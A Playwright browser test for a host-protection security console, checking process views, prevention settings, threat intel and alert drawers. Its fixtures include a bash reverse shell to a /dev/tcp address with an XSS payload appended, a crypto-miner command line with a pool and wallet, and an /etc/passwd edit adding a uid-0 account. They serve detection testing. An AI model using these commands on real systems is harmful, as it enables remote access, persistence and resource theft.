import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import { writeFileSync } from "node:fs";
import type { Browser } from "playwright-core";
import { tempDir, startServer, waitFor } from "../helpers.ts";
import { browserSkip, ensureConsoleBuilt, launch, shot } from "../browser.ts";
import { addConsoleUser, agentSide, assertClean as clean, nav, signIn as signInAs, type AgentCred } from "../console-kit.ts";
import type { HostwardServer } from "../../src/server/index.ts";

/**
 * Host protection in a real browser: an asset's processes and connections, the PRC-4
 * prevention switches, the threat-intel page, and host alerts' evidence in the drawer
 * (process tree, DNS query vs detection time, a sensitive file's diff, precision defence)
 * — all fed by process, connection, DNS and file records through the agent channel.
 */
const skip = browserSkip();
const tmp = tempDir("hw-console-host-");
const EVIL = "e".repeat(64);
const NGINX_SHA = "4f2a".repeat(16);
const XSS = "<img src=x onerror=alert(1)>";
const SHELL_CMD = `bash -i >& /dev/tcp/5.9.77.1/4444 0>&1 #${XSS}`;
const MINER_CMD = "/var/tmp/.cache/kthreadd2 -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1";
let server: HostwardServer;
let base = "";
let adminToken = "";
let browser: Browser;
let web: AgentCred;
let db: AgentCred;
let agents: ReturnType<typeof agentSide>;
const send = (records: object[], as: AgentCred = web) => agents.send(as, records);
const signIn = (username: string) => signInAs(browser, base, username);
let queriedAt = 0;

async function api(path: string, method = "GET", payload?: object): Promise<{ status: number; body: any }> {
  const r = await server.api.inject({ method: method as "GET", url: path, payload, headers: { authorization: `Bearer ${adminToken}` } });
  return { status: r.statusCode, body: r.json() };
}
const alertOf = async (type: string): Promise<{ id: string; status: string; firstSeen: string; detectedAt: string; evidence: Record<string, unknown> }> => {
  const items = (await api(`/api/v1/alerts?type=${type}&limit=10`)).body.items;
  assert.equal(items.length, 1, `one ${type} alert`);
  return items[0];
};

const started = Date.now() - 3_600_000;
type P = { pid: number; name: string; exe?: string; cmd?: string; sha256?: string; action?: string; user?: { name: string; id: number }; cpu?: number; rss?: number; parent?: object; ancestors?: object[]; session?: object };
const proc = (o: P) => ({
  kind: "process", ts: Date.now(), event: { action: o.action ?? "start" },
  process: {
    pid: o.pid, ppid: (o.parent as { pid?: number } | undefined)?.pid ?? 1, name: o.name, executable: o.exe ?? `/usr/bin/${o.name}`, command_line: o.cmd ?? o.name, start: started + o.pid,
    ...(o.sha256 ? { hash: { sha256: o.sha256 } } : {}), ...(o.user ? { user: o.user } : {}), ...(o.cpu !== undefined ? { cpu: { pct: o.cpu } } : {}), ...(o.rss !== undefined ? { memory: { rss: o.rss } } : {}),
    ...(o.parent ? { parent: o.parent } : {}), ancestors: o.ancestors ?? [{ pid: 1, name: "systemd", executable: "/usr/lib/systemd/systemd" }],
  },
  ...(o.session ? { session: o.session } : {}),
});
const conn = (o: { sport: number; dip: string; dport: number; direction: string; state?: string; process: object }) => ({
  kind: "connection", ts: Date.now(), event: { action: "opened" }, network: { transport: "tcp", type: "ipv4", state: o.state ?? "ESTABLISHED", direction: o.direction },
  source: { ip: "10.0.0.5", port: o.sport }, destination: { ip: o.dip, port: o.dport }, process: o.process, firstSeen: Date.now() - 120_000, lastSeen: Date.now(),
});

/** Page errors and dialogs as the other console tests watch them, plus console errors. */

before(async () => {
  if (skip) return;
  ensureConsoleBuilt();
  // an operator's feed (a malware hash, a C2 domain and address) beside the shipped lists, and one that is missing
  const feed = join(tmp.dir, "ops-feed.csv");
  writeFileSync(feed, `type,value,category,note\nsha256,${EVIL},malicious,test malware\ndomain,c2.bad.example,c2,test c2\nip,5.9.99.99,c2,test c2 address\n`);
  ({ server, apiUrl: base, adminToken } = await startServer({ dataDir: join(tmp.dir, "s"), overrides: { intelPaths: [feed, join(tmp.dir, "gone-feed.csv")] } }));
  await addConsoleUser(server, "ops", "admin");
  await addConsoleUser(server, "watcher", "viewer");
  agents = agentSide(server);
  web = await agents.enrol("web-1");
  db = await agents.enrol("db-2");

  const systemd = { pid: 1, name: "systemd", executable: "/usr/lib/systemd/systemd" };
  // AGT-3: an ordinary web server and an ssh session
  await send([
    proc({ pid: 700, name: "nginx", exe: "/usr/sbin/nginx", cmd: "nginx: master process /usr/sbin/nginx -g daemon on;", sha256: NGINX_SHA, user: { name: "root", id: 0 }, cpu: 1.5, rss: 52_428_800, parent: { pid: 1, name: "systemd" } }),
    proc({ pid: 2000, name: "bash", exe: "/usr/bin/bash", cmd: "-bash", user: { name: "alice", id: 1000 }, rss: 5_242_880, parent: { pid: 1990, name: "sshd" }, ancestors: [{ pid: 1990, name: "sshd" }, { pid: 900, name: "sshd", executable: "/usr/sbin/sshd" }, systemd], session: { sshdPid: 1990, user: "alice", sourceIp: "203.0.113.7" } }),
  ]);
  // PRC-2: a reverse shell from a web shell (php-fpm → sh → bash), its command line carrying markup
  await send([proc({
    pid: 6000, name: "bash", exe: "/usr/bin/bash", cmd: SHELL_CMD, user: { name: "www-data", id: 33 },
    parent: { pid: 4321, name: "sh", executable: "/usr/bin/dash", command_line: `sh -c ${SHELL_CMD}` },
    ancestors: [{ pid: 4321, name: "sh", executable: "/usr/bin/dash" }, { pid: 812, name: "php-fpm8.2", executable: "/usr/sbin/php-fpm8.2" }, systemd],
  })]);
  // MIN-3 a miner by its flags; MIN-2 its stratum connection to a public address
  await send([proc({ pid: 5000, name: "kthreadd2", exe: "/var/tmp/.cache/kthreadd2", cmd: MINER_CMD, user: { name: "www-data", id: 33 }, cpu: 396.5, rss: 2_469_606_195, parent: { pid: 812, name: "php-fpm8.2" } })]);
  await send([
    conn({ sport: 40001, dip: "5.9.10.11", dport: 3333, direction: "outbound", process: { pid: 5000, name: "kthreadd2", executable: "/var/tmp/.cache/kthreadd2", command_line: MINER_CMD } }),
    conn({ sport: 443, dip: "198.51.100.23", dport: 51234, direction: "inbound", process: { pid: 700, name: "nginx", executable: "/usr/sbin/nginx" } }),
  ]);
  // PRC-3: a query for a C2 domain, logged ten minutes before the agent sent it
  queriedAt = Date.now() - 10 * 60_000;
  await send([{ kind: "dns", ts: queriedAt, resolver: "dnsmasq", dns: { question: { name: "c2.bad.example", type: "A" } }, source: { ip: "10.0.0.5" } }]);
  // AGT-6: /etc/passwd changed — a shell given to a service account and a second uid 0
  await send([{
    kind: "file", ts: Date.now(), event: { action: "modified" }, file: { path: "/etc/passwd", category: "sensitive", mode: "0644", owner: "root", hash: { sha256: "a1".repeat(32) } },
    change: { summary: "2 lines added, 1 removed", removed: ["www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin"], added: ["www-data:x:33:33:www-data:/var/www:/bin/bash", "toor:x:0:0:root:/root:/bin/bash"] },
  }]);
  // PRC-4: prevention on for web-1 only; a process with a listed hash is killed on sight
  assert.equal((await api("/api/v1/settings/proactive-defence", "PUT", { enabled: false, assets: { [web.agentId]: true } })).status, 200);
  await send([proc({ pid: 4100, name: "dbused", exe: "/tmp/.x/dbused", cmd: "/tmp/.x/dbused -c", sha256: EVIL, user: { name: "www-data", id: 33 }, parent: { pid: 812, name: "php-fpm8.2" } })]);

  assert.equal((await alertOf("malicious_process")).status, "blocked");
  for (const t of ["reverse_shell", "mining_program", "mining_pool", "malicious_domain", "sensitive_file_tampering"]) await alertOf(t);
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
  tmp.cleanup();
});

test("AGT-3 AGT-4 an asset's processes (user, CPU, RSS, command line in full on expand, hash, parent, ssh session) and connections, refreshed while open; an asset with none explains why", { skip: skip ?? false }, async () => {
  const s = await signIn("ops");
  const { page } = s;
  await nav(page, "Assets");
  await page.getByTestId("agent-web-1").getByTestId("open-processes").click();
  const drawer = page.getByTestId("processes-drawer");
  const table = drawer.getByTestId("processes-table");
  await table.waitFor();

  const shell = table.getByTestId("process-6000");
  assert.match(await shell.innerText(), /www-data/);
  const cmd = shell.getByTestId("process-cmd");
  assert.equal(await cmd.innerText(), SHELL_CMD, "the command line is text, markup and all");
  assert.match(await shell.innerText(), /sh\s+4321/, "the parent");
  const miner = table.getByTestId("process-5000");
  assert.match(await miner.innerText(), /kthreadd2[\s\S]*\/var\/tmp\/\.cache\/kthreadd2[\s\S]*www-data[\s\S]*396\.5[\s\S]*2\.3 GiB/);
  const nginx = table.getByTestId("process-700");
  assert.match(await nginx.innerText(), /nginx[\s\S]*root[\s\S]*1\.5[\s\S]*50\.0 MiB[\s\S]*4f2a4f2a4f2a…/);
  assert.equal(await nginx.getByRole("button", { name: "Copy SHA-256" }).count(), 1);
  assert.equal(await table.getByTestId("process-2000").getByTestId("process-session").innerText(), "ssh alice from 203.0.113.7");

  // the full command line and the details on expand
  await cmd.click();
  const detail = table.getByTestId("process-detail-6000");
  await detail.waitFor();
  const detailText = await detail.innerText();
  assert.ok(detailText.includes(SHELL_CMD));
  assert.match(detailText, /systemd \(1\) → php-fpm8\.2 \(812\) → sh \(4321\) → bash \(6000\)/);
  await shot(page, "asset-processes");

  // connections: local → remote, state, direction
  await drawer.getByRole("tab", { name: /Connections/ }).click();
  const conns = drawer.getByTestId("connections-table");
  await conns.waitFor();
  const rows = await conns.getByTestId("connection-row").allInnerTexts();
  assert.equal(rows.length, 2);
  const pool = rows.find((r) => r.includes("5.9.10.11"))!;
  assert.match(pool, /kthreadd2[\s\S]*10\.0\.0\.5:40001\s*→\s*5\.9\.10\.11:3333[\s\S]*tcp[\s\S]*ESTABLISHED[\s\S]*outbound/);
  assert.match(rows.find((r) => r.includes("nginx"))!, /10\.0\.0\.5:443\s*→\s*198\.51\.100\.23:51234[\s\S]*inbound/);

  // refreshed while open: a process the agent reports now appears without a click
  await drawer.getByRole("tab", { name: /Processes/ }).click();
  await send([proc({ pid: 7100, name: "rsync", cmd: "rsync -a /srv/ backup:/srv/", user: { name: "root", id: 0 } })]);
  await table.getByTestId("process-7100").waitFor({ timeout: 15_000 });
  await drawer.getByRole("button", { name: "Close" }).click();

  // an asset that reported nothing yet says what the agent reports
  await page.getByTestId("agent-db-2").getByTestId("open-processes").click();
  const empty = page.getByTestId("processes-drawer").getByTestId("processes-empty");
  await empty.waitFor();
  assert.match(await empty.innerText(), /The agent reports new and busy processes[\s\S]*none yet/);
  await page.getByTestId("processes-drawer").getByRole("tab", { name: /Connections/ }).click();
  await page.getByTestId("connections-empty").getByText(/none yet from db-2/).waitFor();
  await clean(s);
  await s.ctx.close();
});

test("PRC-4 malicious host behaviour prevention: the account switch and per-asset overrides, an override turned on persists; a viewer only reads", { skip: skip ?? false }, async () => {
  const s = await signIn("ops");
  const { page } = s;
  await page.goto(base + "/settings?tab=defence");
  const state = page.getByTestId("proactive-state");
  await state.getByText(/^Off for the account/).waitFor();
  assert.equal(await page.getByRole("switch", { name: "Malicious host behaviour prevention" }).getAttribute("aria-checked"), "false");
  const webRow = page.getByTestId("proactive-web-1");
  const dbRow = page.getByTestId("proactive-db-2");
  await webRow.getByTestId("proactive-effective").getByText("Killed on sight").waitFor();
  assert.equal(await webRow.getByRole("radio", { name: "On" }).getAttribute("aria-checked"), "true");
  assert.equal(await dbRow.getByRole("radio", { name: "Inherit" }).getAttribute("aria-checked"), "true");
  assert.match(await dbRow.getByTestId("proactive-effective").innerText(), /Alert only\s+from the account switch/);

  // turn db-2's override on
  await dbRow.getByRole("radio", { name: "On" }).click();
  await waitFor("db-2 on", async () => (await dbRow.getByRole("radio", { name: "On" }).getAttribute("aria-checked")) === "true");
  assert.deepEqual((await api("/api/v1/settings/proactive-defence")).body, { enabled: false, assets: { [web.agentId]: true, [db.agentId]: true } });
  await page.getByTestId("proactive-count").getByText("2 of 2 assets protected").waitFor();
  await page.reload();
  await waitFor("persisted", async () => (await page.getByTestId("proactive-db-2").getByRole("radio", { name: "On" }).getAttribute("aria-checked")) === "true");
  assert.match(await page.getByTestId("proactive-db-2").getByTestId("proactive-effective").innerText(), /Killed on sight\s+by this override/);
  await page.getByTestId("proactive-state").evaluate((el) => el.closest("section")?.scrollIntoView({ block: "start" }));
  await page.evaluate("scrollBy(0, -70)");
  await shot(page, "settings-proactive");

  // back to inherit: the key is gone
  await page.getByTestId("proactive-db-2").getByRole("radio", { name: "Inherit" }).click();
  await waitFor("db-2 inherits", async () => JSON.stringify((await api("/api/v1/settings/proactive-defence")).body.assets) === JSON.stringify({ [web.agentId]: true }));
  await clean(s);
  await s.ctx.close();

  const v = await signIn("watcher");
  await v.page.goto(base + "/settings?tab=defence");
  await v.page.getByTestId("proactive-web-1").getByTestId("proactive-choice").getByText("On").waitFor();
  assert.equal(await v.page.getByTestId("proactive-db-2").getByTestId("proactive-choice").innerText(), "Inherit");
  assert.equal(await v.page.getByRole("radio").count(), 0);
  await v.page.getByTestId("proactive-read-only").waitFor();
  assert.equal(await v.page.getByRole("switch").count(), 0);
  await clean(v);
  await v.ctx.close();
});

test("PRC-1 threat intel: shipped lists and feeds with entries, rejected lines and errors; reload now; a lookup names the guessed kind and each match, or says no match", { skip: skip ?? false }, async () => {
  const s = await signIn("ops");
  const { page } = s;
  await nav(page, "Threat intel");
  const sources = page.getByTestId("intel-sources");
  await sources.waitFor();
  const feed = sources.getByTestId("intel-source-ops-feed");
  assert.match(await feed.innerText(), /ops-feed\.csv[\s\S]*feed[\s\S]*domain[\s\S]*c2[\s\S]*\b3\b[\s\S]*OK/);
  assert.match(await sources.getByTestId("intel-source-mining-pools").innerText(), /shipped[\s\S]*domain[\s\S]*mining_pool/);
  const gone = sources.getByTestId("intel-source-gone-feed.csv");
  assert.match(await gone.getByTestId("intel-source-status").innerText(), /Error/);
  assert.match(await gone.getAttribute("class") ?? "", /ti-error/, "the broken feed is highlighted");
  await page.getByTestId("intel-broken").getByText(/gone-feed\.csv/).waitFor();

  await page.getByTestId("intel-reload").click();
  await page.getByText("Intel lists reloaded").waitFor();

  const form = page.getByRole("form", { name: "Intel lookup" });
  await form.getByLabel("Value", { exact: true }).fill("pool.supportxmr.com");
  await form.getByTestId("lookup-submit").click();
  const result = page.getByTestId("lookup-result");
  await result.getByTestId("lookup-hit").waitFor();
  assert.equal(await result.getByTestId("lookup-kind").innerText(), "Domain");
  const match = await result.getByTestId("lookup-match").first().innerText();
  assert.match(match, /mining-pools[\s\S]*mining_pool[\s\S]*supportxmr\.com/);
  assert.equal(new URL(page.url()).searchParams.get("value"), "pool.supportxmr.com", "the lookup is in the URL");
  await shot(page, "threat-intel");

  await form.getByLabel("Value", { exact: true }).fill("8.8.8.8");
  await form.getByTestId("lookup-submit").click();
  await result.getByTestId("lookup-none").getByText("✓ No match").waitFor();
  assert.match(await result.getByTestId("lookup-kind").innerText(), /IP address/);
  assert.equal(await result.getByTestId("lookup-match").count(), 0);
  await clean(s);
  await s.ctx.close();

  const v = await signIn("watcher");
  await nav(v.page, "Threat intel");
  await v.page.getByTestId("intel-sources").waitFor();
  assert.equal(await v.page.getByTestId("intel-reload").count(), 0, "reloading is for admins");
  await clean(v);
  await v.ctx.close();
});

test("PRC-2 MIN-2 PRC-3 PRC-4 host alerts in the drawer: the reverse shell's process tree and command line as text, the miner's reasons and pool connection, queried vs detected time, the passwd diff, and the precision-defence banner", { skip: skip ?? false }, async () => {
  const s = await signIn("ops");
  const { page } = s;
  const open = async (type: string) => {
    await page.goto(base + `/alerts?alert=${(await alertOf(type)).id}`);
    const d = page.getByTestId("alert-drawer");
    await d.getByText("Details").waitFor();
    return d;
  };

  // PRC-2 reverse shell: root-down tree, the shell highlighted, its command line as text
  let d = await open("reverse_shell");
  const tree = d.getByTestId("process-tree");
  await tree.waitFor();
  const nodes = await tree.getByTestId("tree-node").evaluateAll((els) => els.map((el) => [el.querySelector(".alv-node-name")?.textContent, el.querySelector(".alv-node-pid")?.textContent]));
  assert.deepEqual(nodes, [["systemd", "1"], ["php-fpm8.2", "812"], ["sh", "4321"]], "root first, the parent last");
  assert.match(await tree.getByTestId("tree-self").innerText(), /bash\s+6000\s+\/usr\/bin\/bash\s+this alert/i);
  assert.equal(await d.getByTestId("process-cmdline").innerText(), SHELL_CMD);
  assert.match(await d.getByTestId("process-evidence").innerText(), /www-data\s+uid 33/);
  await d.evaluate((el) => { el.querySelector("[data-testid=process-tree]")?.scrollIntoView({ block: "start" }); el.scrollBy(0, -80); });
  await shot(page, "alert-reverse-shell");

  // MIN-3 the miner: why, and its CPU
  d = await open("mining_program");
  assert.match(await d.getByTestId("miner-reasons").innerText(), /miner flag or pool URL in the command line/);
  assert.match(await d.getByTestId("process-evidence").innerText(), /CPU\s+396\.5 %/);
  // MIN-2 its pool connection
  d = await open("mining_pool");
  assert.equal(await d.getByTestId("connection-destination").innerText(), "5.9.10.11:3333");
  assert.match(await d.getByTestId("pool-reasons").innerText(), /stratum port 3333/);
  assert.match(await d.getByTestId("connection-evidence").innerText(), /kthreadd2\s+5000/);

  // PRC-3 the DNS query: when it was asked beside when it was detected
  d = await open("malicious_domain");
  const a = await alertOf("malicious_domain");
  assert.equal(a.firstSeen, new Date(queriedAt).toISOString());
  assert.equal(await d.getByTestId("dns-name").innerText(), "c2.bad.example");
  assert.equal(await d.getByTestId("dns-client").innerText(), "10.0.0.5");
  const times = d.getByTestId("dns-times");
  assert.equal(await times.getByTestId("queried-at").locator("time").getAttribute("datetime"), a.firstSeen);
  assert.equal(await times.getByTestId("detected-at").locator("time").getAttribute("datetime"), a.detectedAt);
  assert.match(await times.innerText(), /Queried at[\s\S]*Detected at[\s\S]*10 min after the query/i);
  assert.match(await d.getByTestId("dns-intel").innerText(), /ops-feed\.csv|ops-feed[\s\S]*c2/);
  await d.getByTestId("dns-evidence").evaluate((el) => { el.scrollIntoView({ block: "start" }); el.closest("aside")?.scrollBy(0, -80); });
  await shot(page, "alert-dns");

  // AGT-6 the passwd change as a diff
  d = await open("sensitive_file_tampering");
  assert.equal(await d.getByTestId("file-path").innerText(), "/etc/passwd");
  assert.deepEqual((await d.getByTestId("diff-added").allInnerTexts()).map((x) => x.replace(/\s+/g, "")), ["+www-data:x:33:33:www-data:/var/www:/bin/bash", "+toor:x:0:0:root:/root:/bin/bash"]);
  assert.deepEqual((await d.getByTestId("diff-removed").allInnerTexts()).map((x) => x.replace(/\s+/g, "")), ["-www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin"]);

  // PRC-4 the killed process: the banner, no handling buttons
  d = await open("malicious_process");
  assert.match(await d.getByTestId("precision-banner").innerText(), /Precision defence: killed on sight[\s\S]*4100[\s\S]*\/tmp\/\.x\/dbused[\s\S]*ops-feed/);
  assert.equal(await d.getByRole("region", { name: "Handle" }).count(), 0);
  assert.match(await d.getByTestId("process-intel").innerText(), /Listed by[\s\S]*malicious/);
  await clean(s);
  await s.ctx.close();
});
